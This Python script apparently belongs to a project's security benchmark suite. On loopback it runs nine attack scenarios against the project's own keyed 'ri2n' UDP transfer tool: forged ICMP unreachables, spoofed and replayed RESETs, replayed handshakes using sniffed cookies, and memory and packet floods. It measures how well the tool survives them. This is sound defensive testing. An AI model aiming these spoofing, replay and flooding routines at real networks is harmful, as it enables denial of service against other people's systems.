#!/usr/bin/env python3
"""Attacks without the key against keyed `ri2n` on loopback (issue 40, docs/PROTOCOL.md §11.1).

Each scenario starts keyed `ri2n recv`/`send`/`serve`/`bench` processes on 127.0.0.x and attacks
them as an outsider with raw sockets would (root needed): it reads the loopback interface where
the attack needs what travels on a link (connection IDs, cookies, handshakes), and never holds
the key. It prints what the tools did (exit codes, bytes, goodput, memory, CPU) and saves
everything as JSON. Run it against two builds to compare:

    sudo bench/attacks/attacks.py                         # every scenario, target/release/ri2n
    sudo bench/attacks/attacks.py --ri2n OLD/ri2n icmp    # one scenario, another build

Scenarios: icmp, sweep, reset, replay, accept, memory, flood, resets, junk (see each function).
"""

import argparse
import hashlib
import json
import os
import random
import re
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
SHM = "/dev/shm"
INITIAL, RETRY, RESET = 0x10, 0x11, 0x13
SHORTS = (0x01, 0x02)


def log(*a):
    print(*a, file=sys.stderr, flush=True)


# ---------------------------------------------------------------------------------------------
# Processes, files, measurements


class Procs:
    """Processes started here, ended by PID when done (also on errors)."""

    def __init__(self, tmp):
        self.tmp, self.all = tmp, []

    def start(self, name, args):
        out = open(os.path.join(self.tmp, name + ".out"), "w+")
        err = open(os.path.join(self.tmp, name + ".err"), "w+")
        p = subprocess.Popen(args, stdout=out, stderr=err)
        p.name, p.out, p.err = name, out, err
        self.all.append(p)
        return p

    def stop(self):
        for p in self.all:
            if p.poll() is None:
                p.kill()
                p.wait()

    @staticmethod
    def text(p, which="err"):
        f = p.err if which == "err" else p.out
        f.flush()
        f.seek(0)
        return f.read()

    @staticmethod
    def json(p):
        try:
            return json.loads(Procs.text(p, "out"))
        except ValueError:
            return {}


def wait(p, secs):
    """Exit code of `p` within `secs`, else None (it keeps running)."""
    try:
        return p.wait(timeout=secs)
    except subprocess.TimeoutExpired:
        return None


def rss_kib(pid):
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return None


def cpu_s(pid):
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def free_port():
    while True:
        port = random.randint(20000, 30000)
        try:
            for ip in ("127.0.0.1", "127.0.0.2"):
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.bind((ip, port))
                s.close()
            return port
        except OSError:
            continue


def data_file(mib):
    path = os.path.join(SHM, "ri2n-attacks-%d-%d" % (os.getpid(), mib))
    if not os.path.exists(path):
        with open(path, "wb") as f:
            for _ in range(mib):
                f.write(os.urandom(1 << 20))
    return path


def median(xs):
    xs = sorted(xs)
    return xs[len(xs) // 2] if xs else None


# ---------------------------------------------------------------------------------------------
# The attacker's view of loopback, and its raw sockets


class Sniffer:
    """Every UDP datagram on `lo` to or from `ports` (each once, as sent), kept in order."""

    def __init__(self, ports):
        self.ports, self.seen, self.lock = set(ports), [], threading.Lock()
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
        self.sock.bind(("lo", 0))
        self.sock.settimeout(0.05)
        self.running = True
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while self.running:
            try:
                frame, addr = self.sock.recvfrom(1 << 17)
            except socket.timeout:
                continue
            if addr[2] != socket.PACKET_OUTGOING or frame[12:14] != b"\x08\x00":
                continue
            ip = frame[14:]
            if len(ip) < 28 or ip[9] != 17:
                continue
            ihl = (ip[0] & 15) * 4
            sport, dport = struct.unpack("!HH", ip[ihl:ihl + 4])
            if sport in self.ports or dport in self.ports:
                src = (socket.inet_ntoa(ip[12:16]), sport)
                dst = (socket.inet_ntoa(ip[16:20]), dport)
                with self.lock:
                    self.seen.append((time.monotonic(), src, dst, ip[:ihl + 8], ip[ihl + 8:]))
                    del self.seen[:-4096]

    def find(self, pred, secs=5.0):
        """The latest datagram (src, dst, headers, payload) matching `pred`, waiting up to
        `secs` for one."""
        end = time.monotonic() + secs
        while time.monotonic() < end:
            with self.lock:
                for d in reversed(self.seen):
                    if pred(*d[1:]):
                        return d[1:]
            time.sleep(0.005)
        return None

    def close(self):
        self.running = False
        self.thread.join()
        self.sock.close()


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


RAW = None


def raw():
    global RAW
    if RAW is None:
        RAW = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    return RAW


def ip_header(src, dst, proto, length):
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 0, 0x4000, 64, proto, 0,
                       socket.inet_aton(src), socket.inet_aton(dst))


def send_spoofed(src, dst, payload):
    """A UDP datagram from `src` (ip, port) to `dst`, whoever owns `src`."""
    udp = struct.pack("!HHHH", src[1], dst[1], 8 + len(payload), 0) + payload
    raw().sendto(ip_header(src[0], dst[0], 17, len(udp)) + udp, (dst[0], 0))


def send_refusal(headers, payload):
    """An ICMP port unreachable about a datagram (its IP and UDP `headers` and the start of its
    `payload`), from its destination to its source."""
    src, dst = socket.inet_ntoa(headers[16:20]), socket.inet_ntoa(headers[12:16])
    body = b"\0\0\0\0" + headers + payload[:32]
    icmp = struct.pack("!BBH", 3, 3, 0) + body
    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
    raw().sendto(ip_header(src, dst, 1, len(icmp)) + icmp, (dst, 0))


def initial(version, scid, token, mode, hello):
    """An INITIAL of `version`, padded to 1200 bytes."""
    def varint(v):
        return bytes([v]) if v < 64 else struct.pack("!H", 0x4000 | v)
    d = bytes([version, INITIAL]) + struct.pack("!Q", scid) + varint(len(token)) + token
    d += bytes([mode]) + varint(len(hello)) + hello
    return d + b"\0" * (1200 - len(d))


def parse_initial(d):
    """(version, scid, token, mode, hello) of an INITIAL."""
    def varint(b, i):
        n = 1 << (b[i] >> 6)
        v = b[i] & 0x3F
        for k in range(1, n):
            v = v << 8 | b[i + k]
        return v, i + n
    scid = struct.unpack("!Q", d[2:10])[0]
    tlen, i = varint(d, 10)
    token = d[i:i + tlen]
    mode = d[i + tlen]
    hlen, j = varint(d, i + tlen + 1)
    return d[0], scid, token, mode, d[j:j + hlen]


def retry_token(d):
    """The token of a RETRY datagram."""
    n = d[10] & 0x3F  # the reference's 16-byte cookie: a one-byte varint
    return d[11:11 + n]


def cookie_for(sniffer, server, claimed, scid, version, sock=None):
    """The cookie `server` issues to a client claiming to be `claimed` with CID `scid`: from
    our own socket when `sock` is given (the answer comes to it), else spoofed and read off
    the loopback interface."""
    probe = initial(version, scid, b"", 1, b"")
    if sock is not None:
        sock.sendto(probe, server)
        sock.settimeout(1)
        d, _ = sock.recvfrom(2048)
        return retry_token(d) if d[1] == RETRY else None
    send_spoofed(claimed, server, probe)
    got = sniffer.find(lambda s, t, h, p: s == server and t == claimed and len(p) > 10
                       and p[1] == RETRY and p[2:10] == struct.pack("!Q", scid), 1.0)
    return retry_token(got[3]) if got else None


# ---------------------------------------------------------------------------------------------
# Scenarios


class Ctx:
    def __init__(self, ri2n, tmp):
        self.ri2n, self.tmp = ri2n, tmp
        self.key = os.path.join(tmp, "cluster.key")
        subprocess.run([ri2n, "keygen", "--output", self.key], check=True,
                       stdout=subprocess.DEVNULL)
        self.procs = Procs(tmp)

    def recv(self, port, name="recv", addrs=("127.0.0.1", "127.0.0.2"), out="/dev/null"):
        args = [self.ri2n, "recv", "--key", self.key, "-q", "--json", "-o", out]
        for a in addrs:
            args += ["--listen", "%s:%d" % (a, port)]
        p = self.procs.start(name, args)
        time.sleep(0.3)
        return p

    def send(self, port, path, name="send", to="127.0.0.1", locals_=("127.0.0.1", "127.0.0.2")):
        args = [self.ri2n, "send", "--key", self.key, "-q", "--json", "-i", path,
                "--to", "%s:%d" % (to, port)]
        for a in locals_:
            args += ["--local", a]
        return self.procs.start(name, args)

    def captured_initial(self, sniffer_ports=None):
        """A keyed INITIAL carrying a handshake, from a short transfer of another run of `send`
        (another instance of the client): (version, scid, mode, hello)."""
        port = free_port()
        sn = Sniffer([port])
        try:
            r = self.recv(port, "cap-recv")
            s = self.send(port, data_file(1), "cap-send")
            wait(s, 10), wait(r, 10)
            got = sn.find(lambda s, t, h, p: t[1] == port and len(p) >= 1200 and p[1] == INITIAL
                          and parse_initial(p)[4], 1.0)
        finally:
            sn.close()
        version, scid, _, mode, hello = parse_initial(got[3])
        return version, scid, mode, hello


def data_packets(sn, port, sender, rounds=10):
    """The latest SHORT packet to `port` seen on the interface, once per round, for `rounds`
    rounds or until the `sender` process ends: (source, destination, headers, payload)."""
    for _ in range(rounds):
        d = sn.find(lambda s, t, h, p: t[1] == port and len(p) > 11 and p[1] in SHORTS)
        if not d or sender.poll() is not None:
            return
        yield d


def transfer_outcome(send, recv, size, secs=60):
    rs, rr = wait(send, secs), wait(recv, secs)
    sj, rj = Procs.json(send), Procs.json(recv)
    return {
        "send_exit": rs, "recv_exit": rr, "bytes_received": rj.get("bytes"),
        "intact": rs == 0 and rr == 0 and rj.get("bytes") == size
        and sj.get("checksum") == rj.get("checksum"),
        "send_said": Procs.text(send).strip().splitlines()[-1:] if rs else [],
        "refusals": [sum(l.get("refusals", 0) for l in j.get("links", [])) for j in (sj, rj)],
        "dropped": [j.get("dropped", {}) for j in (sj, rj)],
    }


def icmp(c):
    """Finding 1: forged ICMP port unreachable to both ends of a keyed 2-link transfer, quoting
    datagrams each really sent (on the path) and blind (made-up payload), 100 a second per link
    and side, from 0.3 s on."""
    port, mib = free_port(), 2048
    sn = Sniffer([port])
    r = c.recv(port)
    s = c.send(port, data_file(mib))
    sent, t0 = 0, time.monotonic()
    try:
        while s.poll() is None and time.monotonic() - t0 < 60:
            time.sleep(0.01)
            if time.monotonic() - t0 < 0.3:
                continue
            with sn.lock:
                latest = {}
                for _, src, dst, h, p in sn.seen[-256:]:
                    if len(p) > 11 and p[1] in SHORTS:
                        latest[(src, dst)] = (h, p)
            for h, p in latest.values():
                send_refusal(h, p)
                send_refusal(h, p[:2] + os.urandom(30))
                sent += 2
    finally:
        sn.close()
    out = transfer_outcome(s, r, mib << 20)
    out["forged_icmp"] = sent
    return out


def sweep(c):
    """Finding 1, blind: a single-link keyed transfer from 127.0.0.3; the attacker knows the
    addresses and the server's port, not the client's, and sends an ICMP port unreachable for
    every ephemeral port, with a made-up ri2n header."""
    port, mib = free_port(), 2048
    lo, hi = map(int, open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
    r = c.recv(port, addrs=("127.0.0.1",))
    s = c.send(port, data_file(mib), to="127.0.0.1", locals_=("127.0.0.3",))
    time.sleep(0.5)
    t0 = time.monotonic()
    for cport in range(lo, hi + 1):
        h = ip_header("127.0.0.3", "127.0.0.1", 17, 40) + struct.pack("!HHHH", cport, port, 40, 0)
        send_refusal(h, bytes([4, 1]) + os.urandom(30))
    out = transfer_outcome(s, r, mib << 20)
    out["swept_ports"] = hi - lo + 1
    out["sweep_s"] = round(time.monotonic() - t0, 2)
    return out


def reset(c):
    """Finding 2: the attacker reads the receiver's CID off a link, sends the sender a SHORT
    for it from its own address, takes the sender's RESET and replays it to the sender from
    the receiver's address; ten times during a keyed transfer."""
    port, mib = free_port(), 1024
    sn = Sniffer([port])
    me = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    me.bind(("127.0.0.66", 0))
    me.settimeout(1)
    r = c.recv(port)
    s = c.send(port, data_file(mib))
    provoked = replayed = 0
    try:
        for sender, receiver, _, p in data_packets(sn, port, s):
            me.sendto(bytes([p[0], 1]) + p[2:10] + b"\0\1" + b"\0" * 40, sender)
            try:
                ans, _ = me.recvfrom(2048)
            except socket.timeout:
                continue
            if ans[1] == RESET:
                provoked += 1
                send_spoofed(receiver, sender, ans)
                replayed += 1
            time.sleep(0.05)
    finally:
        sn.close()
    out = transfer_outcome(s, r, mib << 20)
    out.update(resets_provoked=provoked, resets_replayed=replayed)
    return out


def replay(c):
    """Finding 3: a keyed INITIAL of another client run, replayed during a keyed transfer
    spoofed from the sender's address, with the cookie the server sends there (read off the
    interface); ten times."""
    version, scid, mode, hello = c.captured_initial()
    port, mib = free_port(), 2048
    sn = Sniffer([port])
    r = c.recv(port)
    s = c.send(port, data_file(mib))
    tries = answered = 0
    try:
        for client, server, _, _ in data_packets(sn, port, s):
            cookie = cookie_for(sn, server, client, scid, version)
            if cookie is None:
                continue
            send_spoofed(client, server, initial(version, scid, cookie, mode, hello))
            tries += 1
            a = sn.find(lambda s_, t, h, p: s_ == server and t == client and len(p) > 10
                        and p[1] in (0x12, 0x14) and p[2:10] == struct.pack("!Q", scid), 0.5)
            answered += bool(a and a[3][1] == 0x12)
            time.sleep(0.1)
    finally:
        sn.close()
    out = transfer_outcome(s, r, mib << 20)
    out.update(replays=tries, replays_accepted=answered)
    return out


def replay_from(sock, server, version, scid, mode, hello, times=1, patience=1.0):
    """Replays an INITIAL from our own socket with the cookie the server gives it; returns
    the type of the answer (None: none within `patience` seconds; a server sends at most 1 000
    REFUSEs a second)."""
    cookie = cookie_for(None, server, None, scid, version, sock)
    if cookie is None:
        return None
    for _ in range(times):
        sock.sendto(initial(version, scid, cookie, mode, hello), server)
    sock.settimeout(patience)
    try:
        d, _ = sock.recvfrom(2048)
        return d[1]
    except socket.timeout:
        return None


def accept(c):
    """Finding 4: before the real sender comes, a captured keyed INITIAL replayed twice from
    the attacker's own address (with its own cookie) to a waiting `recv`; then a real
    transfer."""
    version, scid, mode, hello = c.captured_initial()
    port, mib = free_port(), 64
    r = c.recv(port)
    me = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    me.bind(("127.0.0.66", 0))
    answer = replay_from(me, ("127.0.0.1", port), version, scid, mode, hello, times=2)
    time.sleep(0.2)
    s = c.send(port, data_file(mib))
    out = transfer_outcome(s, r, mib << 20, secs=30)
    out["replay_answered_with"] = {0x12: "ACCEPT", 0x14: "REFUSE", None: "nothing"}.get(answer)
    return out


def memory(c):
    """Finding 5: 2 000 replays of a captured keyed INITIAL, each from a fresh port of one of
    16 addresses (127.0.0.10-25), to a waiting `recv`; its RSS before, at the peak, and 11 s
    after the last (every unconfirmed connection expired); then a real transfer."""
    version, scid, mode, hello = c.captured_initial()
    port = free_port()
    r = c.recv(port)
    time.sleep(0.5)
    before = peak = rss_kib(r.pid)
    answers = {}
    for i in range(2000):
        me = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        me.bind(("127.0.0.%d" % (10 + i % 16), 0))
        a = replay_from(me, ("127.0.0.1", port), version, scid, mode, hello, patience=0.02)
        answers[a] = answers.get(a, 0) + 1
        me.close()
        if i % 100 == 0:
            peak = max(peak, rss_kib(r.pid) or 0)
    for _ in range(22):
        time.sleep(0.5)
        peak = max(peak, rss_kib(r.pid) or 0)
    after = rss_kib(r.pid)
    out = {"rss_before_kib": before, "rss_peak_kib": peak, "rss_after_kib": after,
           "recv_exited": r.poll(),
           "answers": {{0x12: "ACCEPT", 0x14: "REFUSE", None: "none"}.get(k, k): v
                       for k, v in answers.items()}}
    if r.poll() is None:
        s = c.send(port, data_file(64))
        out.update(transfer_outcome(s, r, 64 << 20, secs=30))
    return out


def flood(c):
    """Finding 6: a keyed `bench` of 8 s against `serve`; at 3 s, 4 096 replays of a captured
    keyed INITIAL in one burst, from 16 addresses (127.0.0.10-25) and a fresh port each (so
    each is a new client to the server; their cookies are fetched beforehand). Goodput per
    100 ms before and in the 1.5 s from the burst on; link state changes; whether a new client
    is served afterwards."""
    version, scid, mode, hello = c.captured_initial()
    port = free_port()
    server = ("127.0.0.1", port)
    srv = c.procs.start("serve", [c.ri2n, "serve", "--key", c.key, "-q", "--listen",
                                  "127.0.0.1:%d" % port, "--listen", "127.0.0.2:%d" % port])
    time.sleep(0.3)
    b = c.procs.start("bench", [c.ri2n, "bench", "--key", c.key, "--to", "127.0.0.1:%d" % port,
                                "--time", "8", "--interval", "0.1", "--json"])
    t_start = time.monotonic()
    time.sleep(0.5)
    clients = fresh_clients(server, 4096, version, scid)
    socks = [me for me, _ in clients]
    replays = [(me, initial(version, scid, cookie, mode, hello)) for me, cookie in clients]
    time.sleep(max(0.0, 3.0 - (time.monotonic() - t_start)))
    t0, cpu0 = time.monotonic(), cpu_s(srv.pid)
    for me, d in replays:
        me.sendto(d, server)
    burst_s = time.monotonic() - t0
    time.sleep(1.5)
    flood_cpu = cpu_s(srv.pid) - cpu0
    answers = {}
    for me in socks:
        me.setblocking(False)
        try:
            a = me.recvfrom(2048)[0][1]
        except OSError:
            a = None
        answers[a] = answers.get(a, 0) + 1
        me.close()
    rb = wait(b, 30)
    doc = Procs.json(b)
    rows = doc.get("intervals", [])
    at = t0 - t_start  # the burst, in the bench's time (its start is a few ms later)
    def rate(lo, hi):
        xs = [x.get("goodput_bps", 0) for x in rows if lo < x.get("end", 0) <= hi]
        return median(xs), (min(xs) if xs else None)
    before, _ = rate(1.0, at)
    during, lowest = rate(at, at + 1.5)
    after = c.procs.start("bench2", [c.ri2n, "bench", "--key", c.key, "--to",
                                     "127.0.0.1:%d" % port, "--time", "1", "--json"])
    return {"bench_exit": rb, "replays": len(replays), "burst_s": round(burst_s, 3),
            "serve_cpu_in_1_5_s_from_burst": round(flood_cpu, 2),
            "goodput_before_bps": before, "goodput_during_bps": during,
            "lowest_100ms_during_bps": lowest,
            "ratio": round(during / before, 3) if before and during else None,
            "link_events": doc.get("events"),
            "answers": {{0x12: "ACCEPT", 0x14: "REFUSE", 0x13: "RESET", None: "none"}.get(k, k):
                        v for k, v in answers.items()},
            "new_client_exit": wait(after, 20)}


def fresh_clients(server, count, version, scid):
    """`count` sockets on fresh ports of 16 addresses (127.0.0.10-25), each with the cookie
    `server` gave it for client ID `scid`: [(socket, cookie)]. The cookies are asked for in
    small bursts, again for those whose RETRY did not come (a server queues few stateless
    answers at a time)."""
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 8192)), hard))
    socks = []
    for i in range(count):
        me = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        me.bind(("127.0.0.%d" % (10 + i % 16), 0))
        me.setblocking(False)
        socks.append(me)
    cookies = {}
    for _ in range(10):
        waiting = [me for me in socks if me not in cookies]
        if not waiting:
            break
        for k, me in enumerate(waiting):
            me.sendto(initial(version, scid, b"", 1, b""), server)
            if k % 32 == 31:
                time.sleep(0.002)
        time.sleep(0.2)
        for me in waiting:
            try:
                d = me.recv(2048)
                if d[1] == RETRY:
                    cookies[me] = retry_token(d)
            except OSError:
                pass
    return [(me, cookies[me]) for me in socks if me in cookies]


def replay_burst(c, server, count):
    """`count` replays of a captured keyed INITIAL from fresh ports of 16 addresses, their
    cookies fetched first; returns their sockets (closing them is up to the caller)."""
    version, scid, mode, hello = c.captured_initial()
    clients = fresh_clients(server, count, version, scid)
    for me, cookie in clients:
        me.sendto(initial(version, scid, cookie, mode, hello), server)
    return [me for me, _ in clients]


def resets(c, flooder):
    """Finding 7: 100 000 RESETs with made-up IDs at `serve`, holding no connections and then
    4 000: real ones (crates/ri2n/examples/hold_connections.rs, from 16 addresses), or where
    that build cannot connect, as the attack found it, 4 000 connections its replays made
    (they last 10 s). The server's CPU per RESET, less what it spends in the same time
    without the flood."""
    port = free_port()
    srv = c.procs.start("serve", [c.ri2n, "serve", "--key", c.key, "-q", "--listen",
                                  "127.0.0.1:%d" % port])
    time.sleep(0.3)
    hold = os.path.join(ROOT, "target", "release", "examples", "hold_connections")
    version = c.captured_initial()[0]
    def per_reset():
        t0, cpu0 = time.monotonic(), cpu_s(srv.pid)
        time.sleep(2.0)
        idle = (cpu_s(srv.pid) - cpu0) / (time.monotonic() - t0)
        t0, cpu0 = time.monotonic(), cpu_s(srv.pid)
        n = int(subprocess.run([flooder, "reset", "127.0.0.1", str(port), "50000", "2",
                                str(version)], capture_output=True, text=True).stdout)
        busy = cpu_s(srv.pid) - cpu0 - idle * (time.monotonic() - t0)
        return n, round(busy / n * 1e6, 3), round(idle, 3)
    n0, us0, idle0 = per_reset()
    h = c.procs.start("hold", [hold, "127.0.0.1:%d" % port, "4000", "60", c.key])
    t0 = time.monotonic()
    while "holding" not in Procs.text(h, "out") and h.poll() is None \
            and time.monotonic() - t0 < 120:
        time.sleep(0.2)
    held = Procs.text(h, "out").strip()
    if "holding" not in held:
        h.kill()
        held = "4000 replays"
        socks = replay_burst(c, ("127.0.0.1", port), 4000)
        time.sleep(2.0)  # until the server has made them all
        for me in socks:
            me.close()
    n1, us1, idle1 = per_reset()
    return {"resets": [n0, n1], "held": held, "us_per_reset_none": us0,
            "us_per_reset_4000": us1, "ratio": round(us1 / us0, 2) if us0 > 0 else None,
            "idle_cpu_per_s": [idle0, idle1]}


def junk(c, flooder, runs):
    """Finding 8: keyed 1 GiB transfers, alternately alone and under 100 000 datagrams a
    second of spoofed random junk to both receiver addresses; goodput medians."""
    path, size = data_file(1024), 1024 << 20
    rates = {"quiet": [], "flooded": []}
    for i in range(2 * runs):
        mode = "flooded" if i % 2 else "quiet"
        port = free_port()
        r = c.recv(port, "junk-recv")
        f = subprocess.Popen([flooder, "junk", "127.0.0.1,127.0.0.2", str(port), "100000",
                              "60"], stdout=subprocess.DEVNULL) if mode == "flooded" else None
        t0 = time.monotonic()
        s = c.send(port, path, "junk-send")
        out = transfer_outcome(s, r, size)
        secs = time.monotonic() - t0
        if f:
            f.kill()
            f.wait()
        rates[mode].append(size * 8 / secs if out["intact"] else 0)
    q, fl = median(rates["quiet"]), median(rates["flooded"])
    return {"runs": runs, "quiet_bps": rates["quiet"], "flooded_bps": rates["flooded"],
            "median_quiet_bps": q, "median_flooded_bps": fl, "ratio": round(fl / q, 3)}


SCENARIOS = ["icmp", "sweep", "reset", "replay", "accept", "memory", "flood", "resets", "junk"]


def cpu_model():
    """The CPU's model name (docs/BENCHMARKS.md names the host of every figure)."""
    try:
        with open("/proc/cpuinfo") as f:
            for line in f:
                if line.startswith("model name"):
                    return line.split(":", 1)[1].strip()
    except OSError:
        pass
    return None


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("scenarios", nargs="*", help="default: all of " + ", ".join(SCENARIOS))
    ap.add_argument("--ri2n", default=os.path.join(ROOT, "target", "release", "ri2n"))
    ap.add_argument("--runs", type=int, default=5, help="runs of each kind in junk")
    ap.add_argument("--out", help="JSON file for the results")
    ap.add_argument("--commit", help="the commit the --ri2n binary was built from (recorded with "
                    "its sha256: a comparison of two builds names both; default: the one the "
                    "binary names in `ri2n --version`, if it names one)")
    o = ap.parse_args()
    unknown = set(o.scenarios) - set(SCENARIOS)
    if unknown:
        ap.error("unknown scenarios: %s" % ", ".join(sorted(unknown)))
    o.scenarios = o.scenarios or SCENARIOS
    if os.geteuid() != 0:
        sys.exit("attacks.py: needs root (raw sockets)")
    tmp = tempfile.mkdtemp(prefix="ri2n-attacks-")
    flooder = os.path.join(tmp, "flood")
    subprocess.run(["cc", "-O2", "-o", flooder, os.path.join(ROOT, "bench", "attacks",
                                                               "flood.c")], check=True)
    c = Ctx(os.path.abspath(o.ri2n), tmp)
    with open(o.ri2n, "rb") as f:
        sha256 = hashlib.sha256(f.read()).hexdigest()
    version = subprocess.run([o.ri2n, "--version"], capture_output=True, text=True).stdout
    built = re.search(r"\(commit ([0-9a-f]+)(\+dirty)?\)", version)
    commit = o.commit or (built and built.group(1) + (built.group(2) or ""))
    results = {"ri2n": o.ri2n, "ri2n_sha256": sha256, "commit": commit,
               "date_utc": time.strftime("%Y-%m-%d %H:%M UTC", time.gmtime()),
               "nproc": os.cpu_count(), "cpu": cpu_model(), "uname_r": os.uname().release,
               "command": " ".join(["bench/attacks/attacks.py"] + sys.argv[1:])}
    try:
        for name in o.scenarios:
            log("== %s" % name)
            fn = globals()[name]
            args = {"resets": (c, flooder), "junk": (c, flooder, o.runs)}.get(name, (c,))
            try:
                results[name] = fn(*args)
            finally:
                c.procs.stop()
            log(json.dumps(results[name]))
    finally:
        c.procs.stop()
        for f in os.listdir(SHM):
            if f.startswith("ri2n-attacks-%d-" % os.getpid()):
                os.unlink(os.path.join(SHM, f))
        shutil.rmtree(tmp, ignore_errors=True)
    if o.out:
        with open(o.out, "w") as f:
            json.dump(results, f, indent=1)
    print(json.dumps(results, indent=1))


if __name__ == "__main__":
    main()
